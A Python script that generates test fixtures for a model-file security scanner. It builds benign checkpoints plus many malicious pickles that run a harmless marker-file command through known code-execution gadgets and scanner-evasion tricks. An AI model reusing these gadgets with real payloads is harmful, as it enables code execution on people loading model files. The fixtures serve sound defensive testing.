#!/usr/bin/env python3
"""Generates the pickle-family detection fixtures under tests/testdata/models/.

Run with Debian's interpreter (python3-torch, python3-numpy, python3-joblib, python3-sklearn,
python3-dill):   /usr/bin/python3 tests/testdata/gen/make_model_fixtures.py

Deterministic: fixed seeds, fixed zip/tar/gzip timestamps, no absolute paths in the output.
Every malicious payload is harmless: it only creates the file `aigis_pwned_marker` in the current
working directory. manifest.json records, per file, the technique, the minimum verdict `aigis scan`
must report, how Python loads it and whether that load really runs the payload
(check_loads.py proves it).
"""

import base64
import bz2
import collections
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

from pickle_asm import (APPENDS, BUILD, EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE, MARK, MEMOIZE,  # noqa
                        NEWTRUE, NONE, OBJ, POP, REDUCE, STACK_GLOBAL, STOP, TUPLE, TUPLE1,
                        binunicode, by, call, dct, ext1, frame, get, glob, i, inst, proto, s0, sg,
                        u, wrap)
import libarchive_7z  # noqa: E402
import zip_craft  # noqa: E402

import numpy as np  # noqa: E402

try:
    import torch  # noqa: E402
    import torch.nn as nn  # noqa: E402
except ImportError:
    sys.exit("make_model_fixtures.py needs python3-torch (run it with Debian's /usr/bin/python3)")
import dill  # noqa: E402
import joblib  # noqa: E402
from sklearn.decomposition import PCA  # noqa: E402
from sklearn.ensemble import RandomForestClassifier  # noqa: E402
from sklearn.linear_model import LogisticRegression  # noqa: E402
from sklearn.pipeline import Pipeline  # noqa: E402
from sklearn.preprocessing import StandardScaler  # noqa: E402

OUT = os.path.normpath(os.path.join(HERE, "..", "models"))
MARKER = "aigis_pwned_marker"
SH = "touch " + MARKER                                              # shell command
PY_OPEN = "open('%s', 'w').close()" % MARKER                        # Python statement
PY_OS = "__import__('os').system('touch %s')" % MARKER              # Python expression
PY_PATHLIB = "__import__('pathlib').Path('%s').touch()" % MARKER     # Python expression

SK = ["sklearn"]
manifest = []
files = {}


def add(rel, data, technique, expect, loader, runs_payload, note=None, requires=None, **extra):
    assert rel not in files, rel
    assert expect in ("malicious", "suspicious", "clean")
    files[rel] = data
    entry = {"file": rel, "technique": technique, "expect": expect, "loader": loader,
             "runs_payload": runs_payload}
    if requires:
        entry["requires"] = requires
    if note:
        entry["note"] = note
    entry.update(extra)
    manifest.append(entry)


class Reduce:
    """Object whose pickling emits fn(*args): how real payloads are produced."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


def torch_bytes(obj, legacy=False):
    b = io.BytesIO()
    if not legacy:
        torch.save(obj, b)
        return b.getvalue()
    # Legacy storage keys are str(storage._cdata) (a memory address) and storages are written
    # sorted by key; map addresses to stable keys in first-use order for reproducible output.
    import torch.serialization as ts
    ids = {}

    def stable_str(x):
        if isinstance(x, int) and x > 1 << 20:
            return str(ids.setdefault(x, 1000000 + len(ids)))
        return str(x)

    ts.str = stable_str
    try:
        # What torch.save(..., _use_new_zipfile_serialization=False) calls.
        ts._legacy_save(obj, b, pickle, 2)
    finally:
        del ts.str
    return b.getvalue()


def zip_entries(data):
    z = zipfile.ZipFile(io.BytesIO(data))
    return [(zi.filename, z.read(zi.filename)) for zi in z.infolist()]


def torch_zip(records, prefix=b"", **tamper):
    """Rebuild a torch-style zip from [(name, bytes)]; tamper: {name: Entry kwargs}."""
    entries = [zip_craft.Entry(n, d, **tamper.get(n, {})) for n, d in records]
    return zip_craft.build(entries, prefix=prefix, torch_like=True)


def with_record(records, name, data):
    return [(n, data if n == name else d) for n, d in records]


def inject(orig, body):
    """Prepends `body` (one pushed value, then dropped) to a protocol-2 pickle (fickling style)."""
    assert orig[:2] == b"\x80\x02", orig[:2]
    return orig[:2] + body + POP + orig[2:]


def first_pickle_len(data):
    f = io.BytesIO(data)
    pickle.Unpickler(f).load()  # our own benign bytes only
    return f.tell()


def gz(data):
    return gzip.compress(data, compresslevel=9, mtime=0)


def tar_bytes(members, compression=""):
    """members: [(name, bytes)] or [(name, bytes, tarinfo-kwargs)]."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as t:
        for m in members:
            name, data = m[0], m[1]
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime, ti.mode, ti.uid, ti.gid, ti.uname, ti.gname = (
                len(data), 0, 0o644, 0, 0, "", "")
            for k, v in (m[2] if len(m) > 2 else {}).items():
                setattr(ti, k, v)
            t.addfile(ti, io.BytesIO(data))
    out = raw.getvalue()
    if compression == "gz":
        out = gz(out)
    return out


def npy_bytes(arr, allow_pickle=False):
    b = io.BytesIO()
    np.save(b, arr, allow_pickle=allow_pickle)
    return b.getvalue()


def npz_bytes(members, compressed=False):
    entries = [zip_craft.Entry(name + ".npy", npy_bytes(a, allow_pickle=True),
                               method=8 if compressed else 0) for name, a in members]
    return zip_craft.build(entries)


def joblib_bytes(obj, compress=0):
    with tempfile.TemporaryDirectory() as d:
        p = os.path.join(d, "obj.joblib")
        joblib.dump(obj, p, compress=compress)
        with open(p, "rb") as f:
            return f.read()


# --------------------------------------------------------------------------------------------
# Benign fixtures: zero findings at suspicious or above.
# --------------------------------------------------------------------------------------------

def make_benign():
    torch.manual_seed(0)
    np.random.seed(0)

    cnn = nn.Sequential(nn.Conv2d(3, 4, 3), nn.BatchNorm2d(4), nn.ReLU(), nn.Flatten(),
                        nn.Linear(4 * 6 * 6, 5))
    add("benign/torch/cnn_state_dict.pt", torch_bytes(cnn.state_dict()),
        "benign torch.save state_dict (small CNN, BatchNorm buffers)", "clean", "torch", False)

    enc = nn.TransformerEncoder(nn.TransformerEncoderLayer(16, 2, 32, batch_first=True), 1)
    add("benign/torch/transformer_encoder.pt", torch_bytes(enc.state_dict()),
        "benign torch.save state_dict (tiny transformer encoder)", "clean", "torch", False)

    lstm = nn.LSTM(8, 12, num_layers=2)
    add("benign/torch/lstm.pth", torch_bytes(lstm.state_dict()),
        "benign torch.save state_dict (2-layer LSTM)", "clean", "torch", False)

    lin = nn.Linear(4, 2)
    opt = torch.optim.Adam(lin.parameters(), lr=1e-3)
    lin(torch.randn(3, 4)).sum().backward()
    opt.step()
    ckpt = {"epoch": 3, "model": lin.state_dict(), "optimizer": opt.state_dict(),
            "config": {"lr": 1e-3, "name": "tiny", "betas": (0.9, 0.999)}, "best": 0.25}
    add("benign/torch/checkpoint_with_optimizer.pt", torch_bytes(ckpt),
        "benign training checkpoint (model + Adam optimizer state + config)", "clean", "torch",
        False)

    base = torch.arange(12, dtype=torch.float32).reshape(3, 4)
    tensors = {
        "half": torch.randn(4).half(), "bf16": torch.randn(4).to(torch.bfloat16),
        "int8": torch.randint(-5, 5, (6,), dtype=torch.int8),
        "uint8": torch.randint(0, 255, (6,), dtype=torch.uint8),
        "bool": torch.tensor([True, False]), "int64": torch.arange(5),
        "float64": torch.randn(2, dtype=torch.float64), "scalar": torch.tensor(1.5),
        "view": base[1:3], "transposed": base.t(), "param": nn.Parameter(torch.randn(3)),
    }
    add("benign/torch/dtypes_and_views.pt", torch_bytes(tensors),
        "benign tensors: half/bf16/int8/uint8/bool/f64, views sharing storage, Parameter",
        "clean", "torch", False)

    nested = {"encoder": {"block0": {"w": torch.randn(2, 2), "b": torch.zeros(2)}},
              "heads": [torch.ones(2), torch.ones(3)], "pair": (torch.eye(2), 7),
              "meta": {"name": "nested", "step": 10, "ratio": 0.5, "none": None, "ok": True}}
    add("benign/torch/nested_dicts.pt", torch_bytes(nested),
        "benign nested dicts/lists/tuples of tensors", "clean", "torch", False)

    add("benign/torch/numpy_values_in_checkpoint.pt",
        torch_bytes({"best_acc": np.float64(0.875), "step": np.int64(1200),
                     "class_weights": np.array([0.5, 2.0], dtype=np.float32),
                     "w": torch.ones(2)}),
        "benign checkpoint holding numpy scalars/arrays (numpy.core.multiarray.scalar, "
        "_reconstruct, dtype)", "clean", "torch", False)
    add("benign/torch/size_and_device.pt",
        torch_bytes({"shape": torch.Size([2, 3]), "device": torch.device("cpu"),
                     "dtype": torch.float16, "w": torch.zeros(2, 3)}),
        "benign checkpoint holding torch.Size, torch.device and a torch dtype", "clean", "torch",
        False)
    with tempfile.TemporaryDirectory() as d:
        path = os.path.join(d, "resnet_block.pt")  # archive root becomes the file stem
        block = nn.Sequential(nn.Conv2d(4, 4, 3, padding=1, bias=False), nn.BatchNorm2d(4))
        torch.save(block.state_dict(), path)
        with open(path, "rb") as f:
            add("benign/torch/resnet_block.pt", f.read(),
                "benign torch.save to a path: zip root is the file stem, not 'archive'", "clean",
                "torch", False)
    add("benign/torch/legacy_cnn.pt", torch_bytes(cnn.state_dict(), legacy=True),
        "benign legacy (pre-1.6, 5 stacked pickles + raw storages) torch.save", "clean",
        "torch-legacy", False)
    add("benign/torch/legacy_checkpoint.pt", torch_bytes(ckpt, legacy=True),
        "benign legacy torch.save of a training checkpoint", "clean", "torch-legacy", False)

    # numpy
    add("benign/numpy/float32.npy", npy_bytes(np.random.RandomState(0).randn(3, 4).astype("<f4")),
        "benign .npy float32", "clean", "numpy", False)
    add("benign/numpy/int64_fortran.npy", npy_bytes(np.asfortranarray(np.arange(12).reshape(3, 4))),
        "benign .npy int64, Fortran order", "clean", "numpy", False)
    st = np.array([(1.0, 2, b"ab"), (3.5, 4, b"cd")],
                  dtype=[("x", "<f4"), ("y", "<i4"), ("n", "S8")])
    add("benign/numpy/structured.npy", npy_bytes(st), "benign .npy structured dtype", "clean",
        "numpy", False)
    for ver in ((2, 0), (3, 0)):
        b = io.BytesIO()
        np.lib.format.write_array(b, np.arange(5, dtype="<f4"), version=ver)
        add("benign/numpy/float32_v%d.npy" % ver[0], b.getvalue(),
            "benign .npy format version %d.0 (u32 header length)" % ver[0], "clean", "numpy", False)
    add("benign/numpy/bool_3d.npy", npy_bytes(np.zeros((2, 2, 2), dtype=bool)),
        "benign .npy bool 3-D", "clean", "numpy", False)
    members = [("weights", np.arange(6, dtype="<f8").reshape(2, 3)), ("labels", np.arange(3)),
               ("table", st)]
    add("benign/numpy/savez.npz", npz_bytes(members), "benign .npz (np.savez layout, stored)",
        "clean", "numpy-npz", False)
    add("benign/numpy/savez_compressed.npz", npz_bytes(members, compressed=True),
        "benign .npz (np.savez_compressed layout, deflated)", "clean", "numpy-npz", False)

    # scikit-learn via joblib
    rng = np.random.RandomState(0)
    X = rng.randn(40, 4)
    y = (X[:, 0] + 0.5 * X[:, 1] > 0).astype(int)
    pipe = Pipeline([("scaler", StandardScaler()), ("clf", LogisticRegression())]).fit(X, y)
    rf = RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0).fit(X, y)
    pca = PCA(n_components=2, random_state=0).fit(X)
    add("benign/joblib/scaler_logreg_pipeline.joblib", joblib_bytes(pipe),
        "benign sklearn Pipeline(StandardScaler, LogisticRegression) via joblib.dump", "clean",
        "joblib", False, requires=SK)
    add("benign/joblib/random_forest.joblib", joblib_bytes(rf),
        "benign sklearn RandomForestClassifier (3 trees) via joblib.dump", "clean", "joblib", False,
        requires=SK)
    add("benign/joblib/pca.joblib", joblib_bytes(pca), "benign sklearn PCA via joblib.dump",
        "clean", "joblib", False, requires=SK)
    for method, ext in (("zlib", "z"), ("gzip", "gz"), ("bz2", "bz2"), ("xz", "xz"),
                        ("lzma", "lzma")):
        add("benign/joblib/scaler_logreg_pipeline.joblib.%s" % ext,
            joblib_bytes(pipe, compress=(method, 3)),
            "benign sklearn pipeline, joblib %s-compressed" % method, "clean", "joblib", False,
            requires=SK)
    add("benign/joblib/random_forest_zlib.joblib", joblib_bytes(rf, compress=3),
        "benign RandomForest, joblib compress=3 (zlib)", "clean", "joblib", False, requires=SK)

    # plain pickles of builtin data, protocols 0-5
    data = {"ints": [1, -2, 2 ** 70, 0], "floats": [0.5, -1e300], "text": "h\u00e9llo",
            "bytes": b"\x00\x01\xff", "bytearray": bytearray(b"ab"), "set": {1, 2, 3},
            "frozenset": frozenset({4}), "tuple": (1, "a", None), "flags": [True, False, None],
            "nested": {"a": [[], {}], "b": ()},
            "ordered": collections.OrderedDict([("z", 1), ("a", 2)])}
    for p in range(6):
        add("benign/pickle/builtins_p%d.pkl" % p, pickle.dumps(data, protocol=p),
            "benign plain pickle of builtin containers, protocol %d" % p, "clean", "pickle", False)
    for p in (2, 5):
        add("benign/pickle/numpy_array_p%d.pkl" % p,
            pickle.dumps({"x": np.arange(6, dtype="<i4").reshape(2, 3), "s": np.float32(1.5)},
                         protocol=p),
            "benign plain pickle of numpy arrays/scalars, protocol %d" % p, "clean", "pickle",
            False, requires=["numpy"])
    add("benign/pickle/dangerous_looking_strings_p4.pkl",
        pickle.dumps({"cmd": "os.system", "expr": "__import__('os').system('ls')", "eval": "exec",
                      "names": ["builtins", "subprocess.Popen", "posix\nsystem"]}, protocol=4),
        "benign data whose strings look like dangerous globals/code (never imported or called)",
        "clean", "pickle", False)
    big = {"rows": ["row-%05d" % k for k in range(9000)], "blob": bytes(range(256)) * 400,
           "tail": list(range(3000))}
    add("benign/pickle/multi_frame_p4.pkl", pickle.dumps(big, protocol=4),
        "benign protocol-4 pickle spanning several 64 KiB FRAMEs plus an unframed 100 KiB "
        "BINBYTES", "clean", "pickle", False)
    add("benign/pickle/list_of_dicts_p2.pickle",
        pickle.dumps([{"id": k, "score": k / 10} for k in range(20)], protocol=2),
        "benign plain pickle, list of records", "clean", "pickle", False)


# --------------------------------------------------------------------------------------------
# Malicious fixtures.
# --------------------------------------------------------------------------------------------

def inner_payload():
    """A complete malicious pickle, used for nested-pickle gadgets."""
    return wrap(call(glob("posix", "system"), binunicode(SH)))


def make_basic():
    add("malicious/pickle/os_system_reduce_p2.pkl",
        pickle.dumps({"w": Reduce(os.system, SH)}, protocol=2),
        "classic __reduce__ -> posix.system (baseline)", "malicious", "pickle", True)
    add("malicious/pickle/builtins_exec_p0.pkl", pickle.dumps(Reduce(exec, PY_OPEN), protocol=0),
        "classic __reduce__ -> builtins.exec, protocol 0 text opcodes", "malicious", "pickle",
        True)
    add("malicious/pickle/builtins_eval_p4.pkl",
        pickle.dumps([1, Reduce(eval, PY_PATHLIB)], protocol=4),
        "classic __reduce__ -> builtins.eval, protocol 4 (FRAME + STACK_GLOBAL)", "malicious",
        "pickle", True)
    add("malicious/pickle/subprocess_call_p5.pkl",
        pickle.dumps(Reduce(subprocess.call, ["touch", MARKER]), protocol=5),
        "classic __reduce__ -> subprocess.call, protocol 5", "malicious", "pickle", True)
    add("malicious/pickle/inst_posix_system_p0.pkl",
        inst("posix", "system", s0(SH)) + POP + b"(d" + STOP,
        "INST opcode call primitive (protocol 0) -> posix.system", "malicious", "pickle", True)
    add("malicious/pickle/obj_result_popped_p1.pkl",
        proto(1) + MARK + glob("builtins", "exec") + binunicode(PY_OPEN) + OBJ + POP + EMPTY_DICT
        + STOP, "GHSA-mxhj-88fx-4pcv OBJ call whose result is discarded by POP", "malicious",
        "pickle", True)
    add("malicious/pickle/exec_base64_obfuscated.pkl",
        wrap(call(glob("builtins", "exec"),
                  call(glob("base64", "b64decode"), binunicode(
                      base64.b64encode(PY_OPEN.encode()).decode())))),
        "obfuscated payload: exec(base64.b64decode(...))", "malicious", "pickle", True)
    add("malicious/pickle/getattr_import_chain.pkl",
        wrap(call(call(glob("builtins", "getattr"),
                       call(glob("builtins", "__import__"), binunicode("os")),
                       binunicode("system")), binunicode(SH))),
        "GLOBAL 'builtins getattr' chain: getattr(__import__('os'), 'system')(...)", "malicious",
        "pickle", True)
    add("malicious/pickle/py2_alias_builtin_eval.pkl",
        wrap(call(glob("__builtin__", "eval"), binunicode(PY_OS))),
        "Python-2 module alias: GLOBAL '__builtin__ eval' is mapped to builtins.eval by "
        "_compat_pickle when PROTO < 3", "malicious", "pickle", True)
    add("malicious/pickle/py2_alias_commands_getoutput.pkl",
        wrap(call(glob("commands", "getoutput"), binunicode(SH))),
        "Python-2 module alias: GLOBAL 'commands getoutput' -> subprocess.getoutput "
        "(_compat_pickle NAME_MAPPING)", "malicious", "pickle", True)


def make_gadgets():
    g = "malicious/gadgets/"
    S = binunicode

    def gadget(name, body, technique, expect="malicious", p=2, requires=None, note=None):
        add(g + name, wrap(body, p=p), technique, expect, "pickle", True, requires=requires,
            note=note)

    gadget("timeit_timeit.pkl",
           call(glob("timeit", "timeit"), S(PY_OPEN), S("pass"), glob("time", "perf_counter"),
                i(1)),
           "GHSA (picklescan deny-list gap) timeit.timeit runs a statement")
    gadget("cprofile_run.pkl", call(glob("cProfile", "run"), S(PY_OPEN)),
           "GHSA (picklescan deny-list gap) cProfile.run executes a statement")
    gadget("profile_run.pkl", call(glob("profile", "run"), S(PY_OPEN)),
           "GHSA (picklescan deny-list gap) profile.run executes a statement")
    gadget("trace_trace_runctx.pkl",
           call(sg("trace", "Trace.runctx"), call(glob("trace", "Trace"), i(0), i(0)), u(PY_OPEN),
                EMPTY_DICT, EMPTY_DICT),
           "CVE-2025-71352 trace.Trace.runctx (dotted name, protocol 4)", p=4)
    gadget("code_interactive_runcode.pkl",
           call(sg("code", "InteractiveInterpreter.runcode"),
                call(glob("code", "InteractiveInterpreter")), u(PY_OPEN)),
           "GHSA code.InteractiveInterpreter.runcode exec gadget", p=4)
    gadget("bdb_run.pkl", call(sg("bdb", "Bdb.run"), call(glob("bdb", "Bdb")), u(PY_OPEN)),
           "GHSA bdb.Bdb.run executes a statement", p=4)
    gadget("pkgutil_resolve_name.pkl",
           call(call(glob("pkgutil", "resolve_name"), S("os:system")), S(SH)),
           "GHSA-vvpj-8cmc-gx39 pkgutil.resolve_name('os:system') resolver gadget")
    gadget("pydoc_locate.pkl", call(call(glob("pydoc", "locate"), S("os.system")), S(SH)),
           "resolver gadget pydoc.locate('os.system')")
    gadget("importlib_import_module_getattr.pkl",
           call(call(glob("builtins", "getattr"), call(glob("importlib", "import_module"), S("os")),
                     S("system")), S(SH)),
           "huntr PoC importlib.import_module + getattr")
    code = compile(PY_OPEN, "<aigis>", "exec")
    gadget("marshal_loads_functiontype.pkl",
           call(glob("types", "FunctionType"),
                call(glob("marshal", "loads"), by(marshal.dumps(code))),
                EMPTY_DICT) + EMPTY_TUPLE + REDUCE,
           "huntr PoC marshal.loads + types.FunctionType (CPython 3.11 bytecode)",
           note="marshal data is CPython-3.11 specific")
    fields = [i(code.co_argcount), i(code.co_posonlyargcount), i(code.co_kwonlyargcount),
              i(code.co_nlocals), i(code.co_stacksize), i(code.co_flags), by(code.co_code),
              MARK + b"".join(NONE if c is None else S(c) for c in code.co_consts) + TUPLE,
              MARK + b"".join(S(n) for n in code.co_names) + TUPLE, EMPTY_TUPLE,
              S(code.co_filename), S(code.co_name), S(code.co_qualname), i(code.co_firstlineno),
              by(code.co_linetable), by(code.co_exceptiontable), EMPTY_TUPLE, EMPTY_TUPLE]
    assert all(c is None or isinstance(c, str) for c in code.co_consts)
    gadget("types_codetype_functiontype.pkl",
           call(glob("types", "FunctionType"), call(glob("types", "CodeType"), *fields),
                EMPTY_DICT) + EMPTY_TUPLE + REDUCE,
           "types.CodeType built from fields + types.FunctionType, then called",
           note="CodeType signature is CPython-3.11 specific")
    gadget("functools_partial.pkl",
           call(glob("functools", "partial"), glob("os", "system"), S(SH)) + EMPTY_TUPLE + REDUCE,
           "GHSA functools.partial wrapping a callable, then called")
    gadget("runpy_run_code.pkl", call(glob("runpy", "_run_code"), S(PY_OPEN), EMPTY_DICT),
           "private stdlib runpy._run_code exec gadget")
    gadget("uuid_get_command_stdout.pkl",
           call(glob("uuid", "_get_command_stdout"), S("touch"), S(MARKER)),
           "GHSA-g38g-8gr9-h9xp uuid._get_command_stdout command runner")
    gadget("osx_support_read_output.pkl", call(glob("_osx_support", "_read_output"), S(SH)),
           "GHSA-g38g-8gr9-h9xp _osx_support._read_output command runner (os.system)")
    gadget("imaplib_imap4_stream.pkl", call(glob("imaplib", "IMAP4_stream"), S(SH)),
           "GHSA-g38g-8gr9-h9xp imaplib.IMAP4_stream spawns a shell command",
           note="load raises (no IMAP greeting) after the command ran")
    gadget("pydoc_pipepager.pkl", call(glob("pydoc", "pipepager"), S("x"), S(SH)),
           "GHSA pydoc.pipepager runs a shell command")
    gadget("pty_spawn.pkl",
           call(glob("pty", "spawn"), EMPTY_LIST + MARK + S("touch") + S(MARKER) + APPENDS),
           "CVE-2025-71322 pty.spawn")
    gadget("operator_methodcaller.pkl",
           call(call(glob("operator", "methodcaller"), S("system"), S(SH)), glob("pathlib", "os")),
           "resolver gadget operator.methodcaller('system', ...) applied to pathlib.os")
    gadget("operator_attrgetter.pkl",
           call(call(call(glob("operator", "attrgetter"), S("system")), glob("shutil", "os")),
                S(SH)),
           "resolver gadget operator.attrgetter('system')(shutil.os)")
    gadget("ctypes_cdll_libc_system.pkl",
           call(call(glob("builtins", "getattr"), call(glob("ctypes", "CDLL"), NONE), S("system")),
                by(SH.encode())),
           "GHSA ctypes.CDLL(None).system via getattr")
    gadget("asyncio_unix_events_subprocess_start.pkl",
           call(sg("asyncio.unix_events", "_UnixSubprocessTransport._start"),
                call(glob("types", "SimpleNamespace")), u(SH), NEWTRUE, NONE, NONE, NONE, i(0)),
           "CVE-2025-10157 submodule of a blocked module: "
           "asyncio.unix_events._UnixSubprocessTransport._start", p=4,
           note="command runs asynchronously (Popen); the marker may appear just after load")
    gadget("numpy_testing_runstring.pkl",
           call(glob("numpy.testing._private.utils", "runstring"), S(PY_OPEN), EMPTY_DICT),
           "GHSA numpy.testing._private.utils.runstring exec gadget", requires=["numpy"])
    gadget("torch_collect_env_run.pkl", call(glob("torch.utils.collect_env", "run"), S(SH)),
           "GHSA torch.utils.collect_env.run shell command", requires=["torch"])
    gadget("torch_jit_execwrapper.pkl",
           call(glob("torch.jit.unsupported_tensor_ops", "execWrapper"), S(PY_OPEN), EMPTY_DICT,
                EMPTY_DICT),
           "GHSA torch.jit.unsupported_tensor_ops.execWrapper exec gadget", requires=["torch"])
    gadget("torch_bottleneck_run_cprofile.pkl",
           call(glob("torch.utils.bottleneck.__main__", "run_cprofile"), S(PY_OPEN), EMPTY_DICT),
           "GHSA torch.utils.bottleneck.__main__.run_cprofile exec gadget", requires=["torch"])
    gadget("distutils_write_file.pkl",
           call(glob("distutils.file_util", "write_file"), S(MARKER), EMPTY_LIST + MARK + S("x")
                + APPENDS),
           "GHSA distutils.file_util.write_file arbitrary file write", expect="suspicious")
    gadget("io_fileio_write.pkl", call(glob("_io", "FileIO"), S(MARKER), S("w")),
           "GHSA _io.FileIO opens a file for writing (creates it)", expect="suspicious")
    gadget("logging_filehandler.pkl", call(glob("logging", "FileHandler"), S(MARKER)),
           "GHSA logging.FileHandler creates a file", expect="suspicious")
    gadget("codecs_open_write.pkl", call(glob("codecs", "open"), S(MARKER), S("w")),
           "huntr PoC codecs.open in write mode (picklescan: only 'Suspicious')",
           expect="suspicious")
    # nested / embedded pickles executed by a loader global
    inner = inner_payload()
    gadget("nested_pickle_loads.pkl", call(glob("pickle", "loads"), by(inner)),
           "embedded pickle loaded by pickle.loads")
    gadget("nested_base64_pickle_loads.pkl",
           call(glob("_pickle", "loads"),
                call(glob("base64", "b64decode"), S(base64.b64encode(inner).decode()))),
           "embedded base64 pickle loaded by _pickle.loads")
    gadget("nested_torch_load_bytesio.pkl",
           call(glob("torch", "load"), call(glob("_io", "BytesIO"), by(inner))),
           "embedded pickle loaded by torch.load(io.BytesIO(...)) (legacy path unpickles it)",
           requires=["torch"], note="torch.load raises after the inner payload ran")
    gadget("torch_decoder_basichandlers.pkl",
           call(glob("torch.utils.data.datapipes.utils.decoder", "basichandlers"), S("pickle"),
                by(inner)),
           "GHSA torch datapipes decoder.basichandlers('pickle', data) nested pickle loader",
           requires=["torch"])
    gadget("lib2to3_grammar_loads.pkl",
           call(sg("lib2to3.pgen2.grammar", "Grammar.loads"),
                call(glob("lib2to3.pgen2.grammar", "Grammar")), by(inner)),
           "CVE-2025-71343 family: lib2to3 Grammar.loads nested pickle loader", p=4)


def make_dotted():
    d = "malicious/dotted/"
    add(d + "stack_global_pathlib_os_system.pkl",
        wrap(call(sg("pathlib", "os.system"), u(SH)), p=4),
        "modelscan #338 dotted name STACK_GLOBAL('pathlib', 'os.system'), protocol 4",
        "malicious", "pickle", True)
    add(d + "global_builtins_print_self_exec.pkl",
        wrap(call(glob("builtins", "print.__self__.exec"), u(PY_OPEN)), p=4),
        "fickling GHSA-5j3x-jp52-966f dotted GLOBAL 'builtins print.__self__.exec' (proto 4)",
        "malicious", "pickle", True)
    add(d + "numpy_builtins_dict_get_eval.pkl",
        wrap(call(call(sg("numpy", "__builtins__.get"), u("eval")), u(PY_OS)), p=4),
        "modelscan #330 numpy.__builtins__ dunder access, then eval", "malicious", "pickle", True,
        requires=["numpy"])
    add(d + "torch_utils_module_state_poisoning.pkl",
        proto(4) + sg("torch", "_utils") + dct((u("_rebuild_tensor"),
                                                sg("torch._jit_internal", "builtins"))) + BUILD
        + POP + call(sg("torch._utils", "_rebuild_tensor.eval"), u(PY_OS)) + POP + EMPTY_DICT
        + STOP,
        "sys_module_override: BUILD on module torch._utils sets _rebuild_tensor = builtins, then "
        "STACK_GLOBAL('torch._utils', '_rebuild_tensor.eval')", "malicious", "pickle", True,
        requires=["torch"])


def make_vm():
    v = "malicious/vm/"
    # Decoy allow-listed strings near STACK_GLOBAL; real operands come from memo slots 1 and 3.
    memo = (proto(4) + u("collections") + MEMOIZE + POP + u("os") + MEMOIZE + POP
            + u("OrderedDict") + MEMOIZE + POP + u("system") + MEMOIZE + POP
            + u("collections") + u("OrderedDict") + POP + POP
            + get(1) + get(3) + STACK_GLOBAL + u(SH) + TUPLE1 + REDUCE + POP
            + get(0) + get(2) + STACK_GLOBAL + EMPTY_TUPLE + REDUCE + STOP)
    add(v + "memo_confusion_decoys.pkl", memo,
        "picklescan #22 memo confusion: STACK_GLOBAL operands from memo slots, decoy strings",
        "malicious", "pickle", True)
    add(v + "stack_global_proto0_strings.pkl",
        s0("os") + s0("system") + STACK_GLOBAL + MARK + s0(SH) + TUPLE + REDUCE + POP + b"(d"
        + STOP,
        "GHSA-9gvj-pp9x-gcfr / CVE-2025-71325 STACK_GLOBAL fed by protocol-0 STRING opcodes, "
        "no PROTO", "malicious", "pickle", True)
    short_binstring = lambda x: b"U" + bytes([len(x)]) + x.encode()  # noqa: E731
    binstring = lambda x: b"T" + struct.pack("<i", len(x)) + x.encode()  # noqa: E731
    unicode0 = lambda x: b"V" + x.encode("raw_unicode_escape") + b"\n"  # noqa: E731
    binunicode8 = lambda x: b"\x8d" + struct.pack("<Q", len(x)) + x.encode()  # noqa: E731
    add(v + "stack_global_short_binstring_unicode.pkl",
        proto(2) + short_binstring("os") + unicode0("system") + STACK_GLOBAL
        + short_binstring(SH) + TUPLE1 + REDUCE + POP + EMPTY_DICT + STOP,
        "STACK_GLOBAL operands from SHORT_BINSTRING + UNICODE opcodes (PROTO 2)", "malicious",
        "pickle", True)
    add(v + "stack_global_binunicode8_binstring.pkl",
        proto(4) + binunicode8("builtins") + MEMOIZE + binstring("exec") + MEMOIZE + STACK_GLOBAL
        + binunicode8(PY_OPEN) + TUPLE1 + REDUCE + POP + EMPTY_DICT + STOP,
        "STACK_GLOBAL operands from BINUNICODE8 + BINSTRING opcodes (PROTO 4)", "malicious",
        "pickle", True)
    add(v + "binget_missing_memo_before_payload.pkl",
        proto(4) + u("os") + get(7) + STACK_GLOBAL + u(SH) + TUPLE1 + REDUCE + POP + EMPTY_DICT
        + STOP,
        "keyerror-exploit: BINGET of a missing memo key feeds STACK_GLOBAL('os', ?)", "malicious",
        "pickle", False,
        note="CPython raises 'Memo value not found at index 7' before the call: payload never "
             "runs; a scanner must still treat os.<unknown> as dangerous")
    add(v + "binget_missing_memo_after_payload.pkl",
        proto(4) + sg("subprocess", "getoutput") + u(SH) + TUPLE1 + REDUCE + POP
        + u("builtins") + get(9) + STACK_GLOBAL + POP + EMPTY_DICT + STOP,
        "keyerror-exploit: payload first, then BINGET of a missing memo key (scanner crash bait)",
        "malicious", "pickle", True, note="CPython raises after the payload ran")
    add(v + "memo_int_type_confusion.pkl",
        proto(4) + u("posix") + MEMOIZE + u("system") + MEMOIZE + STACK_GLOBAL + u(SH) + TUPLE1
        + REDUCE + POP + i(5) + MEMOIZE + get(2) + get(1) + STACK_GLOBAL + POP + EMPTY_DICT + STOP,
        "type-confusion-exploit: memo slot holding an int used as STACK_GLOBAL module",
        "malicious", "pickle", True,
        note="payload runs first; CPython then raises 'STACK_GLOBAL requires str'")
    add(v + "nullifai_broken_stream.pkl",
        proto(2) + call(glob("builtins", "exec"), binunicode(PY_OPEN)) + POP + b"\x00\xff\xfe"
        + b"broken stream, no STOP",
        "nullifAI broken pickle: payload first, stream corrupt afterwards", "malicious", "pickle",
        True, note="pickle.load raises UnpicklingError after the payload ran")
    benign = [pickle.dumps(x, protocol=2) for x in (1, {"a": 1}, [1, 2], "s", (3,), {"k": [0]})]
    mal = wrap(call(glob("posix", "system"), binunicode(SH)))
    add(v + "multi_pickle_payload_2nd_of_6.pkl", benign[0] + mal + b"".join(benign[2:]),
        "multiple concatenated pickles, payload in the 2nd of 6 (scan until EOF)", "malicious",
        "pickle-all", True)
    add(v + "multi_pickle_payload_6th_of_6.pkl", b"".join(benign[:5]) + mal,
        "multiple concatenated pickles, payload in the 6th of 6 (malicious6.pkl)", "malicious",
        "pickle-all", True)
    add(v + "junk_after_stop.pkl",
        wrap(call(glob("builtins", "exec"), binunicode(PY_OPEN))) + b"\x00\x13\x37 trailing junk "
        + bytes(range(256)),
        "malicious-invalid-bytes: payload pickle followed by non-pickle trailing bytes",
        "malicious", "pickle", True)
